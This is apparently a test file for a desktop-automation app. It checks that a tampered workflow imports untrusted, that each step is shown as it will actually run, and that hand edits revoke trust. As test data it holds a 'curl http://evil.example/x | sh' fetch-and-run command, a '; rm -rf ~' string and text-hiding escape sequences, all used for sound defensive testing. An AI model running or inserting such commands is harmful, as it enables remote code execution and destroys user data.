/**
 * Workflow trust in the store, on the real files: a workflow saved here is trusted; an exported
 * one whose step was changed (the action made to type something else, its description left as it
 * was) imports untrusted and shows the step it will really run; trusting it names what was shown
 * (a workflow changed since is refused); a hand edit of workflow.json, or of an anchor's patch,
 * untrusts it again; the trust record lives apart, owner-only, and goes with a delete; a file of an
 * older version without step descriptions still reads.
 */
import { mkdtemp, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import sharp from 'sharp';
import { afterEach, describe, expect, it } from 'vitest';
import { describeWorkflowStep, keyboardInputOf, summarizeWorkflow, type WorkflowExport } from '../../../src/shared/workflow';
import { readSession } from '../../../src/main/store/session-reader';
import { buildWorkflow } from '../../../src/main/workflow/build';
import { WorkflowStore } from '../../../src/main/workflow/store';
import { NAME, recordFormSession, StaticReader } from './recording';

const EVIL = 'curl http://evil.example/x | sh\n';

const folders: string[] = [];
afterEach(async () => {
  for (const folder of folders.splice(0)) await rm(folder, { recursive: true, force: true });
});
async function dataDir(): Promise<string> {
  const dir = await mkdtemp(join(tmpdir(), 'mnemo-workflow-trust-'));
  folders.push(dir);
  return dir;
}

/** The recorded form run saved here as "invoice" (a name and a password as parameters), and its export. */
async function saved(): Promise<{ dir: string; store: WorkflowStore; exported: WorkflowExport }> {
  const dir = await dataDir();
  const { id } = await recordFormSession(dir);
  const read = await readSession(dir, id);
  if (!read.ok) throw new Error(read.message);
  const built = await buildWorkflow(read.session, { name: 'invoice', params: [{ name: 'name', value: NAME, secret: false }, { name: 'password', secret: true }], now: 1 }, new StaticReader());
  if (!built.ok) throw new Error(built.message);
  const store = new WorkflowStore(dir);
  expect(await store.save(built.built.workflow, built.built.files, { replace: false, trusted: true })).toEqual({ ok: true, value: { replaced: false } });
  const exported = await store.export('invoice');
  if (!exported.ok) throw new Error(exported.error.message);
  return { dir, store, exported: exported.value };
}

/** The export with step 2's action changed and everything else (its description too) left as it was. */
function tampered(exported: WorkflowExport): string {
  const json = JSON.parse(JSON.stringify(exported)) as { workflow: { steps: Array<{ description: string; action: unknown }> } };
  const step = json.workflow.steps[1]!;
  expect(step.description).toBe('type "{{name}}\\n"');
  step.action = { type: 'type', text: EVIL };
  return JSON.stringify(json);
}

async function trustedNow(store: WorkflowStore, name: string): Promise<boolean> {
  const read = await store.readChecked(name);
  if (!read.ok) throw new Error(read.error.message);
  return read.value.trusted;
}

describe('workflow trust', () => {
  it('trusts a workflow saved here, and keeps its trust record apart and owner-only', async () => {
    const { dir, store } = await saved();
    expect(await trustedNow(store, 'invoice')).toBe(true);
    expect(await readdir(join(dir, 'workflow-trust'))).toEqual(['invoice.json']);
    expect(await readdir(join(dir, 'workflows', 'invoice'))).not.toContain('trust.json');
    expect(((await stat(join(dir, 'workflow-trust'))).mode & 0o777).toString(8)).toBe('700');
    expect(((await stat(join(dir, 'workflow-trust', 'invoice.json'))).mode & 0o777).toString(8)).toBe('600');
    expect(JSON.parse(await readFile(join(dir, 'workflow-trust', 'invoice.json'), 'utf8'))).toMatchObject({ format: 'mnemo-workflow-trust', name: 'invoice', digest: expect.stringMatching(/^sha256:[0-9a-f]{64}$/) });
  });

  it('imports a tampered export untrusted, showing the step it will run, not the description it came with', async () => {
    const { exported } = await saved();
    const other = new WorkflowStore(await dataDir());
    const imported = await other.import(tampered(exported), { replace: false });
    if (!imported.ok) throw new Error(imported.error.message);
    expect(imported.value.workflow.steps[1]).toMatchObject({ description: 'type "curl http://evil.example/x | sh\\n"', action: { type: 'type', text: EVIL } });
    const shown = await other.readChecked('invoice');
    if (!shown.ok) throw new Error(shown.error.message);
    expect(shown.value.trusted).toBe(false);
    expect(summarizeWorkflow(shown.value.workflow, shown.value.trusted).steps[1]).toEqual({ index: 2, description: 'type "curl http://evil.example/x | sh\\n"', action: { type: 'type', text: EVIL } });
    expect(keyboardInputOf(shown.value.workflow.steps[1]!.action)).toBe('text');
    // The file keeps the description derived from what runs, for older versions that need one.
    const onDisk = JSON.parse(await readFile(join(other.root, 'invoice', 'workflow.json'), 'utf8')) as { steps: Array<{ description: string }> };
    expect(onDisk.steps[1]!.description).toBe('type "curl http://evil.example/x | sh\\n"');
    expect((await other.list()).workflows.map((entry) => [entry.workflow.name, entry.trusted])).toEqual([['invoice', false]]);
  });

  it('trusts what the user was shown, and refuses to when it changed since', async () => {
    const { exported } = await saved();
    const other = new WorkflowStore(await dataDir());
    await other.import(tampered(exported), { replace: false });
    const shown = await other.readChecked('invoice');
    if (!shown.ok) throw new Error(shown.error.message);
    const file = join(other.root, 'invoice', 'workflow.json');
    const original = await readFile(file, 'utf8');
    await writeFile(file, original.replaceAll('evil.example', 'worse.example'));
    expect(await other.trustWorkflow('invoice', shown.value.digest)).toEqual({
      ok: false,
      error: { kind: 'changed', message: 'workflow "invoice" changed after its steps were shown: look at them again before trusting it' },
    });
    expect(await trustedNow(other, 'invoice')).toBe(false);
    await writeFile(file, original);
    expect(await other.trustWorkflow('invoice', shown.value.digest)).toMatchObject({ ok: true, value: { trusted: true, digest: shown.value.digest } });
    expect(await trustedNow(other, 'invoice')).toBe(true);
  });

  it('untrusts a trusted workflow whose workflow.json or anchor patch was edited by hand; its description edited alone changes nothing', async () => {
    const { store } = await saved();
    const file = join(store.root, 'invoice', 'workflow.json');
    const original = await readFile(file, 'utf8');
    // The description is not what runs: whatever it says, the step shows what its action does.
    await writeFile(file, original.replace('"type \\"{{name}}\\\\n\\""', '"click the OK button"'));
    expect(await readFile(file, 'utf8')).toContain('click the OK button');
    expect(await trustedNow(store, 'invoice')).toBe(true);
    const read = await store.read('invoice');
    expect(read.ok && read.value.steps[1]!.description).toBe('type "{{name}}\\n"');

    await writeFile(file, original.replace('"{{name}}\\n"', JSON.stringify(EVIL)));
    expect(await trustedNow(store, 'invoice')).toBe(false);
    expect((await store.list()).workflows.map((entry) => entry.trusted)).toEqual([false]);
    await writeFile(file, original);
    expect(await trustedNow(store, 'invoice')).toBe(true);

    // A patch picks where a click lands: another image there is another workflow.
    const patch = join(store.root, 'invoice', 'anchors', 'step-0001-1.png');
    const { width, height } = await sharp(patch).metadata();
    await writeFile(patch, await sharp({ create: { width: width!, height: height!, channels: 3, background: '#ff0000' } }).png().toBuffer());
    expect(await trustedNow(store, 'invoice')).toBe(false);
  });

  it('forgets the trust of a deleted workflow: the same name imported later is untrusted, even with the same steps', async () => {
    const { dir, store, exported } = await saved();
    expect(await store.delete('invoice')).toEqual({ ok: true, value: { name: 'invoice' } });
    expect(await readdir(join(dir, 'workflow-trust'))).toEqual([]);
    expect(await store.import(JSON.stringify(exported), { replace: false })).toMatchObject({ ok: true });
    expect(await trustedNow(store, 'invoice')).toBe(false);
    // Imported over a trusted one of the same name: untrusted too.
    expect(await store.trustWorkflow('invoice')).toMatchObject({ ok: true, value: { trusted: true } });
    expect(await store.import(JSON.stringify(exported), { replace: true })).toMatchObject({ ok: true, value: { replaced: true } });
    expect(await trustedNow(store, 'invoice')).toBe(false);
  });

  it('reads a file of an older version, whose steps carry their own descriptions or none', async () => {
    const { store } = await saved();
    const file = join(store.root, 'invoice', 'workflow.json');
    const json = JSON.parse(await readFile(file, 'utf8')) as { steps: Array<{ description?: string }> };
    delete json.steps[0]!.description;
    json.steps[3]!.description = 'type (a masked secret)';
    await writeFile(file, JSON.stringify(json));
    const read = await store.read('invoice');
    if (!read.ok) throw new Error(read.error.message);
    expect(read.value.steps.map((step) => step.description)).toEqual(read.value.steps.map(describeWorkflowStep));
    expect(read.value.steps[0]!.description).toBe('click at (310, 49) (near "Name")');
    expect(read.value.steps[3]!.description).toBe('type "{{password}}" (a secret parameter)');
  });
});

describe('a step as it is shown', () => {
  const step = (action: unknown) => describeWorkflowStep({ action: action as never, anchors: [] });

  it('shows typed text whole, escaped, with nothing that would hide or rewrite it; keys, buttons and every point', () => {
    const long = `${'a'.repeat(60)}; rm -rf ~`;
    expect(step({ type: 'type', text: long })).toBe(`type "${long}"`);
    expect(step({ type: 'type', text: 'ok\u001b[1A\u001b[2Khidden\u202etxt.exe' })).toBe('type "ok\\u001b[1A\\u001b[2Khidden\\u202etxt.exe"');
    expect(step({ type: 'hotkey', keys: ['ctrl', 'alt', 't'] })).toBe('hotkey ctrl+alt+t');
    expect(step({ type: 'click', x: 5, y: 6, button: 'right', modifiers: ['ctrl'] })).toBe('click at (5, 6) with the right button holding ctrl');
    expect(step({ type: 'drag', path: [{ x: 1, y: 2 }, { x: 3, y: 4 }, { x: 5, y: 6 }], button: 'left' })).toBe('drag from (1, 2) to (5, 6) through (3, 4)');
    expect(keyboardInputOf({ type: 'hotkey', keys: ['ctrl', 's'] })).toBe('keys');
    expect(keyboardInputOf({ type: 'click', x: 1, y: 1, button: 'left', modifiers: ['shift'] })).toBe('keys');
    expect(keyboardInputOf({ type: 'click', x: 1, y: 1, button: 'left' })).toBeNull();
  });
});
